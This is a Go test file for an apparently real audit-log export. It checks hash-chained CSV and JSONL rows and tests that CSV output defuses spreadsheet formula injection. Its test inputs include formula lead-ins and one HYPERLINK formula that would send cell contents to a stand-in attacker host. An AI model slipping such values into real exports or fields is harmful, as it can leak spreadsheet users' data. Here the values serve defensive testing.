package audit

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/keyport/keyport/internal/kp"
)

// The export is the contract that lets anyone check the trail without
// Keyport: from a file alone, each row's hash must recompute, and each row
// must link to the one before it.
func TestExportedRowsRecomputeTheirHashes(t *testing.T) {
	evs := chainedEvents()
	var csvOut, jsonOut bytes.Buffer
	for _, enc := range []ExportEncoder{NewCSVEncoder(&csvOut), NewJSONLEncoder(&jsonOut)} {
		for i := range evs {
			if err := enc.Encode(&evs[i]); err != nil {
				t.Fatal(err)
			}
		}
		if err := enc.Close(); err != nil {
			t.Fatal(err)
		}
	}
	recs, err := csv.NewReader(&csvOut).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Join(recs[0], ","), strings.Join(exportColumns, ","); got != want {
		t.Fatalf("csv header %s, want %s", got, want)
	}
	fromCSV := recs[1:]
	var fromJSON [][]string
	sc := bufio.NewScanner(&jsonOut)
	for sc.Scan() {
		var x ExportRecord
		if err := json.Unmarshal(sc.Bytes(), &x); err != nil {
			t.Fatalf("jsonl line %q: %v", sc.Text(), err)
		}
		fromJSON = append(fromJSON, x.csvRow(nil))
	}
	for name, rows := range map[string][][]string{"csv": fromCSV, "jsonl": fromJSON} {
		if len(rows) != len(evs) {
			t.Fatalf("%s: %d rows, want %d", name, len(rows), len(evs))
		}
		prev := strings.Repeat("00", 32)
		for i, row := range rows {
			e := fromExportRow(t, row)
			var h hasher
			sum := h.hash(&e, e.ID)
			if got := hex.EncodeToString(sum[:]); got != row[len(row)-1] {
				t.Errorf("%s row %d: recomputed hash %s, file says %s", name, i, got, row[len(row)-1])
			}
			if got := row[len(row)-2]; got != prev {
				t.Errorf("%s row %d: prev_hash %s, want the previous row's hash %s", name, i, got, prev)
			}
			prev = row[len(row)-1]
		}
	}
}

// chainedEvents are an intent and its outcome, chained from the genesis
// hash, with the optional columns both empty and set.
func chainedEvents() []kp.AuditEvent {
	at := time.Date(2026, 3, 1, 9, 30, 0, 123456000, time.UTC)
	intent := kp.AuditEvent{ID: 1, OccurredAt: at, ActorKind: kp.ActorAdmin, ActorUserID: "u-1", ActorName: "Ann, \"admin\"",
		TenantID: "11111111-1111-4111-8111-111111111111", TenantName: "Acme", Region: "na1", SessionHash: "ab12",
		ClientIP: "192.0.2.1", UserAgent: "Mozilla/5.0", Action: kp.KeyDelete, TargetKeyID: "KEY1", Outcome: kp.OutcomeIntent,
		RequestID: "r-1", Details: `{"label": "a <b> & c"}`, HashVersion: 1, PrevHash: make([]byte, 32)}
	status, intentID := int32(409), int64(1)
	outcome := intent
	outcome.ID, outcome.OccurredAt = 2, at.Add(time.Millisecond)
	outcome.Outcome, outcome.UpstreamStatus, outcome.IntentID = kp.OutcomeFailure, &status, &intentID
	outcome.ErrorMessage = "upstream refused\nthe request (409)"
	evs := []kp.AuditEvent{intent, outcome}
	var h hasher
	prev := make([]byte, 32)
	for i := range evs {
		evs[i].PrevHash = prev
		sum := h.hash(&evs[i], evs[i].ID)
		evs[i].Hash = sum[:]
		prev = evs[i].Hash
	}
	return evs
}

// fromExportRow reads an event back from an exported row (exportColumns
// order), as a reader of the file would.
func fromExportRow(t *testing.T, r []string) kp.AuditEvent {
	t.Helper()
	num := func(s string) int64 {
		n, err := strconv.ParseInt(s, 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		return n
	}
	at, err := time.Parse(time.RFC3339Nano, r[1])
	if err != nil {
		t.Fatal(err)
	}
	e := kp.AuditEvent{ID: num(r[0]), OccurredAt: at, ActorKind: kp.ActorKind(r[2]), ActorUserID: r[3], ActorName: r[4],
		TenantID: r[5], TenantName: r[6], Region: kp.Region(r[7]), SessionHash: r[8], ClientIP: r[9], UserAgent: r[10],
		Action: kp.Action(r[11]), TargetKeyID: r[12], Outcome: kp.Outcome(r[13]), ErrorMessage: r[15], RequestID: r[16],
		Details: r[18], HashVersion: int16(num(r[19]))}
	if e.PrevHash, err = hex.DecodeString(r[20]); err != nil {
		t.Fatal(err)
	}
	if r[14] != "" {
		s := int32(num(r[14]))
		e.UpstreamStatus = &s
	}
	if r[17] != "" {
		id := num(r[17])
		e.IntentID = &id
	}
	return e
}

// leadIns are the formula lead-ins of issue 26, each a value a person could
// choose: a label, a name, a message.
var leadIns = []string{"=1+1", "+1", "-1", "@A1", "\tTab first", "\rCR first", `=HYPERLINK("http://evil.example/?"&A1,"Open")`, "'=quoted already"}

// A CSV export opened in a spreadsheet runs no formula, whichever column a
// person's text is in, and every row still recomputes its hash once the
// receiver strips the prefix by the documented rule (CheckCSVRecord); read
// as the cells stand, the rows with a prefix do not.
func TestCSVExportIsSpreadsheetSafeAndStillRecomputes(t *testing.T) {
	base := chainedEvents()[0]
	var evs []kp.AuditEvent
	prev := make([]byte, 32)
	for i, s := range leadIns {
		e := base
		e.ID = int64(i + 1)
		e.ActorUserID, e.ActorName, e.TenantID, e.TenantName, e.SessionHash, e.ClientIP = s, s, s, s, s, s
		e.UserAgent, e.TargetKeyID, e.ErrorMessage, e.RequestID, e.Details = s, s, s, s, `{"label": "`+s+`"}`
		if i%2 == 0 {
			e.Details = s
		}
		e.PrevHash = prev
		var h hasher
		sum := h.hash(&e, e.ID)
		e.Hash, prev = sum[:], sum[:]
		evs = append(evs, e)
	}
	var out bytes.Buffer
	enc := NewCSVEncoder(&out)
	for i := range evs {
		if err := enc.Encode(&evs[i]); err != nil {
			t.Fatal(err)
		}
	}
	enc.Close()
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(recs) != len(evs)+1 {
		t.Fatalf("the export reads back as %d records (%v), want %d", len(recs), err, len(evs)+1)
	}
	for i, row := range recs[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, %s: %q starts a formula", i+1, recs[0][j], cell)
			}
		}
		if err := CheckCSVRecord(recs[0], row); err != nil {
			t.Errorf("row %d does not recompute by the documented rule: %v", i+1, err)
		}
		if err := checkCSVRecord(recs[0], row, func(s string) string { return s }); err == nil {
			t.Errorf("row %d recomputes without stripping its prefixes: it has none", i+1)
		}
	}
}
